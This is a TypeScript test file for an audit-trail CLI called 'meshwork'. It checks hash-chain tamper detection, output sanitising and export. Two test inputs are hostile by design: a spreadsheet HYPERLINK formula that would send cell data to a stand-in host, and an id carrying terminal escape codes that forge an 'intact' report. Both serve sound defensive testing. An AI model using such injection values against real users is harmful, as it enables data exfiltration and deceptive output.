import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { after, before, describe, it } from 'node:test';
import type { AuditEvent, AuditEventInput } from '../../src/app/store/store.ts';
import { verifyChain } from '../../src/core/audit/index.ts';
import { sha256Hex } from '../../src/stores/audit-chain.ts';
import { createEmbeddedStore } from '../../src/stores/embedded/index.ts';
import { createPostgresStore } from '../../src/stores/postgresql/index.ts';
import { cli } from '../support/cli.ts';
import type { TestPostgres } from '../support/postgres.ts';
import { createTestDatabase, startTestPostgres, withClient } from '../support/postgres.ts';
import { repoRoot } from '../support/standards.ts';

const run = promisify(execFile);

/** `meshwork …` as a real process, as an operator or a cron job runs it. */
async function meshwork(args: readonly string[], cwd: string, env: NodeJS.ProcessEnv = {}) {
  try {
    const { stdout, stderr } = await run(
      process.execPath,
      [join(repoRoot, 'bin/meshwork.js'), ...args],
      {
        cwd,
        env: { PATH: process.env.PATH, ...env },
        encoding: 'utf8',
      },
    );
    return { code: 0, stdout, stderr };
  } catch (error) {
    const failed = error as { code?: number; stdout?: string; stderr?: string };
    return { code: failed.code ?? -1, stdout: failed.stdout ?? '', stderr: failed.stderr ?? '' };
  }
}

function event(id: string, extra: Partial<AuditEventInput> = {}): AuditEventInput {
  return {
    id,
    at: '2026-03-01T10:00:00.000Z',
    actor: 'anna',
    action: 'access.request',
    target: 'sales-orders',
    details: { purpose: 'reporting' },
    ...extra,
  };
}

describe('meshwork audit', () => {
  const dirs: string[] = [];
  let server: TestPostgres | undefined;
  const drops: (() => Promise<void>)[] = [];
  before(async () => {
    server = await startTestPostgres();
  });
  after(async () => {
    for (const dir of dirs) await rm(dir, { recursive: true, force: true });
    for (const drop of drops) await drop();
    await server?.stop();
  });

  /** A mesh folder whose embedded store holds `count` audit entries. */
  async function mesh(count: number, extra: AuditEventInput[] = []) {
    const root = await mkdtemp(join(tmpdir(), 'meshwork-audit-cli-'));
    dirs.push(root);
    const store = createEmbeddedStore({ directory: join(root, '.meshwork', 'store') });
    await store.migrate();
    const stored: AuditEvent[] = [];
    for (let i = 1; i <= count; i++) stored.push(await store.audit.append(event(`e${i}`)));
    for (const e of extra) stored.push(await store.audit.append(e));
    return { root, stored, log: join(root, '.meshwork', 'store', 'audit.jsonl') };
  }

  it('verify: exit 0 and the head hash for an intact trail', async () => {
    const { root, stored } = await mesh(5);
    const result = await meshwork(['audit', 'verify'], root);
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, /audit chain intact: 5 entries, head seq 5/);
    assert.ok(result.stdout.includes(`head hash ${stored[4]!.hash}`), result.stdout);
  });

  it('verify: exit 1 naming the first broken entry of a tampered file, in text and JSON', async () => {
    const { root, log } = await mesh(6);
    const lines = (await readFile(log, 'utf8')).split('\n').filter((l) => l !== '');
    const third = JSON.parse(lines[2]!) as { value: AuditEvent };
    third.value = { ...third.value, actor: 'bert' };
    lines[2] = JSON.stringify(third);
    await writeFile(log, `${lines.join('\n')}\n`);
    const text = await meshwork(['audit', 'verify', root], root);
    assert.equal(text.code, 1, text.stderr);
    assert.match(text.stdout, /audit trail broken at entry 3 \(seq 3, id "e3"\): edited/);
    const json = await cli(['audit', 'verify', '--format', 'json'], root);
    assert.equal(json.code, 1);
    const body = JSON.parse(json.stdout) as {
      intact: boolean;
      broken: { kind: string; id: string };
    };
    assert.equal(body.intact, false);
    assert.deepEqual([body.broken.kind, body.broken.id], ['edited', 'e3']);
  });

  it('verify: an id from the store cannot write terminal escapes over the report', async () => {
    const { root, log } = await mesh(2);
    const lines = (await readFile(log, 'utf8')).split('\n').filter((l) => l !== '');
    const second = JSON.parse(lines[1]!) as { value: AuditEvent };
    second.value = { ...second.value, id: 'x\r\u001b[2K\u001b[32m✔ audit chain intact' };
    lines[1] = JSON.stringify(second);
    await writeFile(log, `${lines.join('\n')}\n`);
    const result = await cli(['audit', 'verify'], root, { isTTY: true });
    assert.equal(result.code, 1);
    assert.ok(
      !result.stdout.includes('\u001b') && !result.stdout.includes('\r'),
      JSON.stringify(result.stdout),
    );
    assert.match(result.stdout, /id "x\\r\\u001b\[2K/);
  });

  it('verify --anchor: a trail cut off after the anchor was noted fails, though its chain is intact', async () => {
    const { root, log, stored } = await mesh(4);
    const head = stored[3]!.hash;
    assert.equal((await cli(['audit', 'verify', '--anchor', head], root)).code, 0);
    const lines = (await readFile(log, 'utf8')).split('\n').filter((l) => l !== '');
    await writeFile(log, `${lines.slice(0, 3).join('\n')}\n`);
    assert.equal((await cli(['audit', 'verify'], root)).code, 0, 'the chain alone cannot tell');
    const anchored = await cli(['audit', 'verify', '--anchor', head.toUpperCase()], root);
    assert.equal(anchored.code, 1);
    assert.match(anchored.stdout, new RegExp(`anchor ${head} is not in the chain`));
    const bad = await cli(['audit', 'verify', '--anchor', 'abc'], root);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /64 hex digits/);
  });

  it('export jsonl: every entry as stored, oldest first, verifiable again from the file', async () => {
    const { root, stored } = await mesh(3);
    const result = await meshwork(['audit', 'export', '--format', 'jsonl'], root);
    assert.equal(result.code, 0, result.stderr);
    const lines = result.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as AuditEvent);
    assert.deepEqual(lines, stored);
    assert.equal(verifyChain(sha256Hex, lines).ok, true);
    const rest = await cli(['audit', 'export', '--after-seq', '2'], root);
    assert.deepEqual(
      rest.stdout
        .trimEnd()
        .split('\n')
        .map((l) => (JSON.parse(l) as AuditEvent).id),
      ['e3'],
    );
  });

  it('export csv --out: quoted, formula-safe cells in a 0600 file', async () => {
    const { root } = await mesh(1, [
      event('evil', {
        actor: '=HYPERLINK("http://x.example/?"&A1,"click")',
        target: '+1 "quoted", with comma\nand a line break',
        details: { note: '@SUM(1)' },
      }),
      event('dash', { actor: '-2+3', target: null }),
    ]);
    const result = await meshwork(
      ['audit', 'export', '--format', 'csv', '--out', 'trail.csv'],
      root,
    );
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, /Exported 3 audit entries \(csv\) to trail\.csv/);
    const file = join(root, 'trail.csv');
    assert.equal((await stat(file)).mode & 0o777, 0o600);
    const csv = await readFile(file, 'utf8');
    const rows = csv.split('\r\n');
    assert.equal(rows[0], 'seq,id,at,actor,action,target,details,prevHash,hash');
    assert.ok(
      csv.includes(
        `2,evil,2026-03-01T10:00:00.000Z,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",access.request,"'+1 ""quoted"", with comma\nand a line break","{""note"":""@SUM(1)""}"`,
      ),
      csv,
    );
    assert.ok(csv.includes(`3,dash,2026-03-01T10:00:00.000Z,'-2+3,access.request,,`), csv);
    assert.equal(rows.length, 5, 'header, three entries (one spans two lines), the end');
  });

  it('exit 2 with one line for usage and environment errors', async () => {
    const { root } = await mesh(1);
    for (const [args, message] of [
      [['audit', 'frobnicate'], /unknown audit action "frobnicate"/],
      [['audit', 'export', '--format', 'xml'], /--format must be one of jsonl, csv/],
      [['audit', 'export', '--after-seq=-1'], /--after-seq must be a whole number/],
      [['audit', 'verify', '--out', 'x'], /--out belongs to `meshwork audit export`/],
      [['audit', 'verify', 'no-such-folder'], /no-such-folder: no such folder/],
    ] as const) {
      const result = await cli(args, root);
      assert.equal(result.code, 2, `${args.join(' ')}: ${result.stdout}`);
      assert.match(result.stderr, message);
    }
    const unreachable = await meshwork(['audit', 'verify'], root, {
      MESHWORK_DATABASE_URL: 'postgres://meshwork:secret-pw@127.0.0.1:1/none',
    });
    assert.equal(unreachable.code, 2);
    assert.match(unreachable.stderr, /cannot open the Meshwork store/);
    assert.ok(!unreachable.stderr.includes('secret-pw'));
    assert.equal(unreachable.stderr.trimEnd().split('\n').length <= 2, true, unreachable.stderr);
  });

  it('verify against PostgreSQL: exit 1 naming a deleted row', async () => {
    if (!server) throw new Error('PostgreSQL not started');
    const db = await createTestDatabase(server.url, 'meshwork_audit_cli');
    drops.push(() => db.drop());
    const store = createPostgresStore({ connectionString: db.url, maxConnections: 2 });
    await store.migrate();
    for (let i = 1; i <= 5; i++) await store.audit.append(event(`p${i}`));
    await store.close();
    const root = await mkdtemp(join(tmpdir(), 'meshwork-audit-cli-'));
    dirs.push(root);
    const env = { MESHWORK_DATABASE_URL: db.url };
    assert.equal((await meshwork(['audit', 'verify'], root, env)).code, 0);
    await withClient(db.url, (c) => c.query('DELETE FROM meshwork_audit WHERE chain_seq = 2'));
    const result = await meshwork(['audit', 'verify', '--format', 'json'], root, env);
    assert.equal(result.code, 1, result.stderr);
    const body = JSON.parse(result.stdout) as { broken: { kind: string; seq: number; id: string } };
    assert.deepEqual(body.broken.kind, 'deleted');
    assert.deepEqual([body.broken.seq, body.broken.id], [3, 'p3']);
  });
});
